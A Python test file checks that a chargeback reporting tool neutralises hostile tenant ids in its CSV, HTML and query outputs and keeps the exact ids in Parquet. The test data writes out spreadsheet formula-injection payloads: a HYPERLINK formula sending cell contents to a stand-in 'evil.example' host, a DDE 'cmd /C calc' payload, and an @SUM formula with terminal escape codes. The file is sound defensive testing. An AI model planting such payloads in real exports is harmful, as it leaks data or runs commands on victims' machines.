"""A hostile `tenant.id` travels from landed telemetry through dbt to every output, harmlessly.

The golden data directory (tests/hostile_data.py) was landed with three tenants whose ids are
spreadsheet formulas carrying NUL, BEL, ESC and CR. The chargeback's CSV must hold no formula-leading
text cell and no control character, the HTML no control character, the Parquet the exact ids, and the
CSV must still reconcile with the mart; `spanledger query --format csv` follows the same CSV rules and
keeps negative numbers numeric.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from orchestration.reports.chargeback import Month
from orchestration.reports.reconcile import reconcile
from orchestration.reports.safe_text import FORMULA_LEADS
from tests.built_once import private_copy
from tests.hostile_data import HOSTILE_TENANTS, MONTH, spanledger

CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")


@pytest.fixture(scope="module")
def data_dir(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return private_copy(hostile, tmp_path_factory.mktemp("hostile-report") / "data")


@pytest.fixture(scope="module")
def report(data_dir: Path) -> Path:
    proc = spanledger(data_dir, "report", "chargeback", "--month", MONTH)
    assert proc.returncode == 0, proc.stderr
    return data_dir / "reports" / "chargeback" / MONTH


def _mart_tenants(data_dir: Path) -> set[str]:
    with duckdb.connect(str(data_dir / "warehouse.duckdb"), read_only=True) as con:
        return {
            t
            for (t,) in con.execute("select distinct tenant_id from finops.fct_chargeback_monthly").fetchall()
        }


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_LEADS) and not NEGATIVE_NUMBER.fullmatch(cell)
    ]


def test_the_hostile_ids_reached_the_mart_exactly(data_dir) -> None:
    assert set(HOSTILE_TENANTS.values()) <= _mart_tenants(data_dir)


def test_the_focus_csv_has_no_formula_and_no_control_character(report) -> None:
    with (report / f"chargeback-{MONTH}.csv").open(newline="", encoding="utf-8") as f:
        raw = f.read()  # as written: a carriage return inside a cell stays one
    assert not CONTROL.search(raw), CONTROL.findall(raw)[:5]
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert _formula_cells(rows) == []
    tenant_ids = {row["x_TenantId"] for row in csv.DictReader(io.StringIO(raw, newline=""))}
    assert """'=HYPERLINK("https://evil.example/?leak="&A1,"invoice")""" in tenant_ids
    assert "'\t-2+3+cmd|' /C calc'!A0" in tenant_ids
    assert "'@SUM(1+1)\n[31m" in tenant_ids


def test_the_parquet_keeps_the_exact_ids_and_the_csv_reconciles(data_dir, report) -> None:
    exported = set(pq.read_table(report / f"chargeback-{MONTH}.parquet").column("x_TenantId").to_pylist())
    assert set(HOSTILE_TENANTS.values()) <= exported
    assert exported == _mart_tenants(data_dir)
    month = Month.parse(MONTH)
    assert reconcile(data_dir / "warehouse.duckdb", month, report / f"chargeback-{MONTH}.csv") == []


def test_the_html_report_has_no_control_character(report) -> None:
    page = (report / f"chargeback-{MONTH}.html").read_text(encoding="utf-8")
    assert not CONTROL.search(page), CONTROL.findall(page)[:5]
    assert "=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;invoice&quot;)" in page


def test_query_csv_neutralises_formulas_and_keeps_negative_numbers(data_dir) -> None:
    proc = spanledger(
        data_dir,
        "query",
        "select tenant_id, -1.25 as refund_usd, '-7' as delta_text, '-2+3' as sneaky "
        "from finops.fct_chargeback_monthly order by all",
        "--format",
        "csv",
    )
    assert proc.returncode == 0, proc.stderr
    assert not CONTROL.search(proc.stdout)
    rows = list(csv.reader(io.StringIO(proc.stdout, newline="")))
    assert rows[0] == ["tenant_id", "refund_usd", "delta_text", "sneaky"]
    assert _formula_cells(rows) == []
    assert {tuple(r[1:]) for r in rows[1:]} == {("-1.25", "-7", "'-2+3")}
    assert "'@SUM(1+1)\n[31m" in {r[0] for r in rows[1:]}


def test_query_table_prints_ids_as_text_not_markup_or_escapes(data_dir) -> None:
    proc = spanledger(
        data_dir, "query", "select '[bold]x[/]' as label, tenant_id from finops.fct_chargeback_monthly"
    )
    assert proc.returncode == 0, proc.stderr
    assert "[bold]x[/]" in proc.stdout and "\x1b" not in proc.stdout and "\x00" not in proc.stdout
